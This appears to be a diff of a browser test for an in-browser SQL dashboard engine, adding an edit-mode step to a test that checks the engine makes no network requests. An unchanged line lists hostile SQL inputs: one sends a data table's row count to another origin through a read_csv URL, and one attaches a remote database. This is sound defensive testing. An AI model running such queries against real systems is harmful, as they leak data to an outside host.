@@ -9,7 +9,7 @@ import assert from 'node:assert/strict';
 import { createServer } from 'node:http';
 import { readFile, stat } from 'node:fs/promises';
 import path from 'node:path';
-import { alerts, fixture, loadFiles, runSql, waitForTable, waitReady } from './harness.mjs';
+import { alerts, editMode, fixture, loadFiles, runSql, waitForTable, waitReady } from './harness.mjs';
 import { foreignRequests, launch, openPage } from './browser.mjs';
 
 const DIST = fixture('dist');
@@ -156,6 +156,7 @@ describe('no network inside the engine, behind a server that sends no security h
     await page.locator('[data-testid="sql-add-block"]').click();
     await page.locator('[data-testid="sql-add-block"]').click();
     await page.locator('[data-testid="tab-dashboard"]').click();
+    await editMode(page);
     const hostile = [`SELECT * FROM read_csv('${other}/leak.csv?d=' || (SELECT count(*) FROM tiep_cong_dan_2022))`, `ATTACH '${other}/db.duckdb' AS x`];
     for (const [i, sql] of hostile.entries()) {
       const block = page.locator('[data-testid="dashboard-block"][data-kind="sql"]').nth(i);
